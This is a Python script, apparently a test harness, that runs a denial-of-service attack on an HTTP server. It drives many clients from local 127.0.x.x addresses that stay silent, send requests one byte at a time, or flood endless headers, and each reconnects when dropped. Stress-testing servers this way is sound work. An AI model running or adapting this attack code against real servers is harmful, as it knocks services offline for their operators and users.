"""usage: http_attack.py ADDRESS SILENT SLOW FLOODING

Attacks an HTTP server at ADDRESS (host:port) until standard input ends, with clients on many local IP addresses:
SILENT clients that send nothing, SLOW clients that send one byte of a request every 0.2 s, and FLOODING clients that
send headers without end. A client whose connection is closed connects again. Prints one line as soon as the number of
successful connections has reached the number of clients.
"""

import asyncio
import itertools
import resource
import sys

CONNECTIONS_PER_ADDRESS = 20
HEADER = b"X-Header: " + b"x" * 4000 + b"\r\n"


async def attack(server, source, connected, send):
    """Connects to the server again and again, and calls `send(writer)` until the connection is closed."""
    host, port = server
    while True:
        try:
            reader, writer = await asyncio.open_connection(host, port, local_addr=(source, 0))
        except OSError:
            await asyncio.sleep(0.1)
            continue
        connected.release()
        sending = asyncio.create_task(send(writer))
        try:
            while await reader.read(65536):
                pass
        except OSError:
            pass
        sending.cancel()
        writer.transport.abort()


async def stay_silent(writer):
    await asyncio.Future()


async def send_slowly(writer):
    for byte in itertools.cycle(b"GET / HTTP/1.1\r\nX-Header: xxxxxxxxxx\r\n"):
        writer.write(bytes([byte]))
        await asyncio.sleep(0.2)


async def flood(writer):
    writer.write(b"GET / HTTP/1.1\r\n")
    while True:
        writer.write(HEADER)
        await writer.drain()


async def main():
    address, *counts = sys.argv[1:]
    host, _, port = address.rpartition(":")
    silent, slow, flooding = map(int, counts)
    kinds = [stay_silent] * silent + [send_slowly] * slow + [flood] * flooding
    connected = asyncio.Semaphore(0)
    tasks = []
    for number, send in enumerate(kinds):
        group = 2 + number // CONNECTIONS_PER_ADDRESS
        tasks.append(asyncio.create_task(
            attack((host, int(port)), f"127.0.{group // 250}.{2 + group % 250}", connected, send)))
        if number % 100 == 0:
            await asyncio.sleep(0.01)
    for _ in kinds:
        await connected.acquire()
    print("connected", flush=True)
    await asyncio.get_running_loop().run_in_executor(None, sys.stdin.read)
    for task in tasks:
        task.cancel()


_, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, 16384), hard))
asyncio.run(main())
